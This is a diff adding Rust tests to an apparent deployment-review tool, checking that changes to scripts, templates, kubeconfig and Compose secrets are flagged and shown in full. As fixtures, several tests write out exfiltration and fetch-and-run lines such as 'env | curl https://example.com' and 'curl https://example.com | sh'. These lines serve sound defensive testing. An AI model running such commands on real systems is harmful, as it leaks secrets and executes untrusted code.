@@ -196,6 +196,45 @@ fn files_that_a_command_may_run_are_compared_or_named() {
     }
 }
 
+/// A file whose meaning is compared elsewhere, and whose bytes a command reads.
+#[test]
+fn bytes_that_a_command_may_read_are_compared_wherever_else_the_file_is_used() {
+    let script = |stage: &str| {
+        format!(
+            "  zz:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n    configure: {{ scripts: [{{ name: x, \
+             check: \"true\", file: ./token.sh }}] }}\n"
+        )
+    };
+    let with = |more: &str| manifest("./app", "{ A: { from_command: [sh, -c, \". ./token.sh\"] } }", more);
+    let (script, removed) = (script("running"), script("destroyed"));
+    // The file, its new text, the manifest before and after the change.
+    for (file, text, before, after) in [
+        ("token.sh", "env | curl https://example.com\n", "", removed.as_str()),
+        ("token.sh", "env | curl https://example.com\n", script.as_str(), script.as_str()),
+        ("token.sh", "env | curl https://example.com\n", script.as_str(), ""),
+        ("app/conf.txt.tera", "b={# ; env | curl https://example.com #}\n", "", ""),
+        ("deployment.yaml", "# env | curl https://example.com\n", "", ""),
+    ] {
+        let work = Work::new();
+        work.put("token.sh", "echo good\n");
+        work.put("app/conf.txt.tera", "b=\n");
+        work.put("deployment.yaml", &with(before));
+        work.unchanged(file);
+        work.put("deployment.yaml", &with(after));
+        let was = if file == "deployment.yaml" { with(after) } else { String::new() };
+        work.put(file, &(was + text));
+        let run = work.attempt(file);
+        assert!(!run.out.contains("No changes in <code>web"), "{file}: {}{}", run.out, run.err);
+        let (_, own) = run.out.split_once("<code>web</code>").unwrap_or_default();
+        assert!(
+            own.contains(&format!("<code>content of {file}</code>")) || run.err.contains(&format!("may read {file}")),
+            "{file}: {}{}",
+            run.out,
+            run.err
+        );
+    }
+}
+
 #[test]
 fn files_that_a_module_may_read_outside_of_its_directory_are_named() {
     let work = Work::new();
@@ -219,6 +258,27 @@ fn files_that_a_module_may_read_outside_of_its_directory_are_named() {
     );
     // A machine without files of the repository.
     assert!(run.out.contains("No changes in <code>plain</code>"), "{}", run.out);
+}
+
+#[test]
+fn files_that_opentofu_may_read_by_a_path_in_the_manifest_are_named() {
+    for machine in [
+        "{ hetzner: { server_type: cx22, location: nbg1 }, backend: { kubernetes: { config_path: ../../../kube.yaml } } }",
+        "{ module: { source: example/server/hcloud, version: \"1.0.0\", variables: { file: ../../../kube.yaml } } }",
+    ] {
+        let work = Work::new();
+        work.put("kube.yaml", "users: []\n");
+        let made = format!(
+            "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: {machine}\n    \
+             ssh: {{ user: deploy, identity: {{ from_env: K }} }}\n"
+        );
+        work.put("deployment.yaml", &made);
+        work.unchanged(machine);
+        work.put("kube.yaml", "users: [ { name: u, user: { exec: { command: sh } } } ]\n");
+        let run = work.attempt(machine);
+        run.shows(machine, "OpenTofu of web");
+        assert!(run.err.contains("may read kube.yaml"), "{}", run.err);
+    }
 }
 
 #[test]
@@ -273,6 +333,60 @@ fn nothing_is_taken_for_a_large_file() {
         let run = work.look(name);
         assert!(run.code == 64 && run.err.contains("UTF-8"), "{name}: {}{}", run.out, run.err);
         run.shows(name, "### Failures");
+    }
+}
+
+#[test]
+fn a_content_that_changes_is_shown_or_said_to_be_missing() {
+    let pad = "#\n".repeat(33 << 10);
+    let work = Work::new();
+    work.put("app/compose.yaml", &format!("services: {{ web: {{ image: \"demo:1\" }} }}\n{pad}"));
+    work.put("app/start.sh", "echo hello\n");
+    work.put("app/tool", "echo hello\n");
+    work.unchanged("the base");
+    // A large Compose file, no text, a large diff, a file that the change itself declares a secret.
+    work.put("app/compose.yaml", &format!("services: {{ web: {{ image: \"demo:1\", privileged: true }} }}\n{pad}"));
+    work.attempt("a large file").shows("a large file", "+services: { web: { image: \"demo:1\", privileged: true } }");
+    fs::write(work.repository().join("app/start.sh"), b"curl https://example.com | sh #\xff\n").expect("written");
+    work.attempt("no text").shows("no text", "its content is not shown");
+    work.put("app/start.sh", &"echo hello again, and again, and again\n".repeat(4000));
+    work.attempt("a large diff").shows("a large diff", "more line");
+    work.put("app/start.sh", "curl https://example.com | sh\n");
+    let secret = "services: { web: { image: \"demo:1\" } }\nsecrets: { tls: { file: ./start.sh } }\n";
+    work.put("app/compose.yaml", secret);
+    let run = work.attempt("a file that becomes a secret");
+    run.shows("a file that becomes a secret", "a secret since this change");
+    run.shows("a file that becomes a secret", "+curl https://example.com | sh");
+}
+
+/// No part of a text that runs is cut off, in no format.
+#[test]
+fn a_command_that_changes_is_shown_to_its_end() {
+    let with = |script: &str, schedule: &str| {
+        let first = "apt-get install -y locales && locale-gen en_US.UTF-8 && touch /etc/locale.done".repeat(3);
+        let more = format!(
+            "    configure:\n      scripts:\n        - {{ name: locale, check: \"true\", run: \"{first}\" }}\n        \
+             - {{ name: motd, check: \"true\", run: \"{script}\" }}\n      \
+             schedules: [{{ name: tidy, at: daily, run: \"find cache -mtime {schedule}\" }}]\n"
+        );
+        manifest("./app", "{ A: \"1\" }", &more)
+    };
+    let long = "-not -name keep ".repeat(30);
+    let work = Work::new();
+    work.put("deployment.yaml", &with("echo hello", &format!("+30 {long}")));
+    work.unchanged("the base");
+    let token = format!("{{ A: {{ from_command: [sh, -c, \"# {}; env | curl example.com\"] }} }}", "x".repeat(300));
+    for changed in [
+        with("env | curl example.com", &format!("+30 {long}")),
+        with("echo hello", &format!("+31 {long}; env | curl example.com")),
+        manifest("./app", &token, ""),
+    ] {
+        work.put("deployment.yaml", &changed);
+        for form in [&[][..], &["--format", "markdown"]] {
+            let run = work.run(&[&["plan", "--against", "main"], form].concat());
+            let text = run.out.replace("&#124;", "|");
+            assert!(text.contains("env | curl example.com"), "{changed}: {}", run.out);
+        }
     }
 }
 
